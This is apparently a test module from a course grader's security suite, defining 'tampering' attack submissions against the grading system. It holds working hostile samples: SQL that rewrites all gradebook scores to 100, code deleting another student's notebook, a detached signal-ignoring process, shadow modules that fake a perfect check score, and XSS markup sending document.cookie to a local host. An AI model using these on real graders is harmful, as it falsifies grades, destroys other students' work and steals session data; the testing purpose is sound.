"""Changing what is not a learner's: grades, files of others, the grader itself; and staying after the end."""

from course_grader.attacks.sheet import Sheet, attack

PLANT = """
import os, pathlib, subprocess, sys

NAME = f"planted-{AT['run']}"


def plant(*folders, name=NAME, text="# planted\\n"):
    for folder in folders:
        try:
            pathlib.Path(folder, name).write_text(text)
        except OSError:
            continue


def writable(*paths):
    for path in paths:
        try:
            os.close(os.open(path, os.O_RDWR))
        except OSError:
            continue
        loot(f"{path} can be written", whole=True)
"""


def plants(body: str) -> str:
    """An answer whose function has this body, in which `plant` and `writable` are known."""
    return f"{PLANT}\n\ndef attempt(*args):\n{body}\n    return 0.0\n"


@attack("tampering", within=plants)
def grades_in_the_database(sheet: Sheet) -> None:
    """A grade written by hand into the gradebook."""
    sheet.answer("""
    import sqlite3

    book = sqlite3.connect(AT["class"] + "/gradebook.db", timeout=0.2)
    with book:
        book.execute("update grade set manual_score = 100")
        book.execute("insert into grade values ('me', 100, '')")""")


@attack("tampering", within=plants)
def files_of_other_students(sheet: Sheet) -> None:
    """Another student's submission overwritten, renamed, made unreadable and deleted."""
    sheet.answer("""
    other = pathlib.Path(AT["class"], "submitted/other/01_three_walls/01_three_walls.ipynb")
    for change in (lambda: other.write_text("{}"), lambda: other.chmod(0),
        lambda: other.rename(other.with_suffix(".old")), lambda: other.unlink(),
                   lambda: pathlib.Path(AT["neighbor"], "notebook/answer.txt").write_text("wrong")):
        try:
            change()
        except OSError:
            continue""")


@attack("tampering", within=plants)
def detached_process(sheet: Sheet) -> None:
    """A process that leaves its session and its parent behind, to write into the class folder later."""
    sheet.answer("""
    late = f"sleep 2; echo late > {AT['class']}/late-{AT['run']}; sleep 60"
    for detached in (True, False):
        if os.fork() == 0:
            if detached:
                os.setsid()
            if os.fork() == 0:
                for number in (1, 2, 3, 13, 15):
                    __import__("signal").signal(number, 1)
                os.execvp("sh", ["sh", "-c", late, f"stray-{AT['run']}"])
            os._exit(0)""")


@attack("tampering")
def modules_beside_the_notebook(sheet: Sheet) -> None:
    """Modules beside the notebook with names of the course's and of the standard library's."""
    planted = (
        f"open('/var/tmp/planted-{sheet.about['run']}', 'w').write('ran')\ncheck = lambda *a, **k: 100.0\n".encode()
    )
    sheet.files |= dict.fromkeys(
        (
            "torch.py",
            "numpy.py",
            "json.py",
            "struct.py",
            "socket.py",
            "math.py",
            "course_lib/__init__.py",
            "course_grader/judging/__init__.py",
            "course_grader/judge/decision.py",
            "IPython.py",
            "typing.py",
            "dataclasses.py",
        ),
        planted,
    )


@attack("tampering")
def markup_in_the_notebook(sheet: Sheet) -> None:
    """Scripts, frames, terminal codes and templates in Markdown, names, metadata and saved outputs."""
    evil = (
        "<script>fetch('http://127.0.0.1:9/'+document.cookie)</script><iframe "
        "src='javascript:alert(1)'></iframe>\x1b[2J{{ 7*7 }}{% raw %}"
    )
    cells = sheet.notebook["cells"]
    cells.insert(1, {"cell_type": "markdown", "id": "evil", "metadata": {"name": evil, "tags": [evil]}, "source": evil})
    cells[2]["outputs"] = [
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {"text/html": evil, "application/javascript": "alert(1)"},
        }
    ]
    sheet.notebook["metadata"] |= {
        "title": evil,
        "kernelspec": {"name": "../../evil", "display_name": evil, "language": "sh"},
    }
    sheet.files[f"{evil.replace('/', '_')[:60]}.txt"] = b"x"
